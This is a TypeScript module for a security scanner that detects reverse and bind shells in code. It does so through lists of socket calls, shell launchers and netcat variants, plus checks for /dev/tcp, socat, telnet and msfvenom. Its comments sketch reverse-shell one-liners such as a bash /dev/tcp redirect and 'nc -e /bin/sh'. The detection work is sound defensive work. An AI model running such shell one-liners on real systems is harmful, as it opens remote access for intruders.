/**
 * Reverse and bind shells for the `code` detector: a shell wired to a network socket, in any
 * language. Read as two marks in one line, a socket (or `/dev/tcp`, `nc`, `socat`) and a shell or
 * process launcher, so a one-liner is caught however its parts are ordered or named.
 *
 * @internal Not part of the public API.
 */
import type { FindingSink } from './types.js';

const RCE = 'remote-code-execution';
const REVERSE = 'connects a shell to a network socket (a reverse or bind shell)';
const DEV_TCP = 'opens a raw network connection through /dev/tcp';
const TOOLING = 'builds or runs an exploitation payload (msfvenom, meterpreter)';

/** Socket marks (lower-case), one per language. */
const SOCKETS = [
  'socket.socket(',
  'socket(',
  'fsockopen(',
  'pfsockopen(',
  'tcpsocket',
  '-rsocket',
  'use socket',
  'io::socket',
  'net.connect(',
  'net.socket(',
  'net.createconnection(',
  "require('net')",
  'require("net")',
  'net.sockets.tcpclient',
  'sockets.tcpclient',
  'socket.tcp(',
  '/inet/tcp/',
  'new socket(',
  'net.dial(',
  'stream_socket_client(',
  'io::socket::inet',
  'ztcp ',
  's_client',
];

/** Shell and process-launch marks (lower-case). */
const LAUNCHERS = [
  'dup2(',
  'pty.spawn(',
  '/bin/sh',
  '/bin/bash',
  '/bin/zsh',
  'cmd.exe',
  'powershell',
  'sh -i',
  'subprocess',
  'exec(',
  'exec ',
  'system(',
  'spawn(',
  'popen(',
  'proc_open(',
  'shell_exec(',
  'passthru(',
  'child_process',
  'iex',
  'invoke-expression',
  'getstream(',
  'processbuilder',
  'getruntime()',
  'os.execute(',
  'open(stdin',
  'exec.command(',
  '|& getline',
  'fdopen(',
  'system$_',
  '>&$reply',
  '/bin/sh',
];
const NC = new Set(['nc', 'ncat', 'netcat', 'nc.traditional', 'nc.openbsd', 'pwncat']);

function isWordCode(c: number): boolean {
  return (c >= 97 && c <= 122) || (c >= 48 && c <= 57) || c === 95 || c === 45 || c === 46;
}

function first(l: string, marks: readonly string[]): number {
  for (const m of marks) {
    const at = l.indexOf(m);
    if (at >= 0) return at;
  }
  return -1;
}

/** Scans lower-cased `l` (same offsets as the segment) for reverse and bind shells. */
export function scanShells(segment: string, l: string, sink: FindingSink): void {
  let found = false;
  const report = (start: number, end: number): void => {
    if (found) return;
    found = true;
    sink.report(
      'code.reverse-shell',
      RCE,
      'critical',
      REVERSE,
      start,
      end,
      segment.slice(start, Math.min(end, start + 96)),
    );
  };
  // bash -i >& /dev/tcp/host/port 0>&1, exec 5<>/dev/tcp/…
  let at = l.indexOf('/dev/tcp/');
  if (at < 0) at = l.indexOf('/dev/udp/');
  if (at >= 0) {
    if (l.includes('>&') || l.includes('<&') || l.includes(' -i') || l.includes('0>&1') || /<>\s*\/dev\//.test(l)) {
      report(0, l.length);
    } else {
      sink.report('code.dev-tcp', RCE, 'medium', DEV_TCP, at, at + 9, segment.slice(at, at + 48));
    }
  }
  // Netcat family with a program to run, or piped into a shell.
  if (!found) scanNetcat(l, report);
  // socat exec:/system: and a network address.
  if (!found) {
    at = l.indexOf('socat');
    if (
      at >= 0 &&
      (l.includes('exec:', at) || l.includes('system:', at)) &&
      (l.includes('tcp', at) || l.includes('ssl', at))
    ) {
      report(at, l.length);
    }
  }
  // telnet h p | /bin/sh | telnet h p2
  if (!found) {
    at = l.indexOf('telnet ');
    if (at >= 0 && /\|\s*(\/bin\/)?(ba)?sh\b/.test(l)) report(at, l.length);
  }
  // A socket and a launcher in one line.
  if (!found) {
    const s = first(l, SOCKETS);
    if (s >= 0) {
      const p = first(l, LAUNCHERS);
      const connects =
        l.includes('connect') ||
        l.includes('bind(') ||
        l.includes('tcpclient') ||
        l.includes('fsockopen') ||
        l.includes('tcpsocket') ||
        l.includes('/inet/tcp/') ||
        l.includes('new socket(') ||
        l.includes('net.dial(') ||
        l.includes('stream_socket_client') ||
        l.includes('peeraddr') ||
        l.includes('ztcp ') ||
        (l.includes('s_client') && /\|\s*(\/bin\/)?(ba|z)?sh\b/.test(l));
      if (p >= 0 && connects) report(Math.min(s, p), l.length);
    }
  }
  // Exploitation tooling.
  at = l.indexOf('msfvenom');
  if (at < 0) at = l.indexOf('meterpreter');
  if (at >= 0) sink.report('code.exploit-payload', 'malware', 'high', TOOLING, at, at + 8, segment.slice(at, at + 64));
}

/** `nc -e /bin/sh h p`, `ncat --exec`, `nc h p | /bin/sh`, `mkfifo … nc`. */
function scanNetcat(l: string, report: (start: number, end: number) => void): void {
  const n = l.length;
  let i = 0;
  let guard = 0;
  while (i < n && guard++ < 256) {
    // Next word.
    while (i < n && !isWordCode(l.charCodeAt(i))) i++;
    const s = i;
    while (i < n && isWordCode(l.charCodeAt(i))) i++;
    if (i === s) break;
    let w = l.slice(s, i);
    const slash = l.lastIndexOf('/', i - 1);
    if (slash >= s - 1 && slash > 0 && l.charCodeAt(s - 1) === 47) w = l.slice(slash + 1, i);
    if (!NC.has(w)) continue;
    // The rest of this command (to a separator).
    let e = i;
    while (e < n && e < i + 256) {
      const c = l.charCodeAt(e);
      if (c === 59 || (c === 38 && l.charCodeAt(e + 1) === 38)) break;
      e++;
    }
    const rest = l.slice(i, e);
    if (
      /(^|\s)-[a-z]*[ec]\s/.test(`${rest} `) ||
      rest.includes('--exec') ||
      rest.includes('--sh-exec') ||
      rest.includes('--lua-exec') ||
      /\|\s*(\/bin\/)?(ba|z)?sh\b/.test(rest) ||
      l.includes('mkfifo') ||
      /\/bin\/(ba)?sh[^|]*\|\s*$/.test(l.slice(Math.max(0, s - 64), s))
    ) {
      report(s, e);
      return;
    }
  }
}
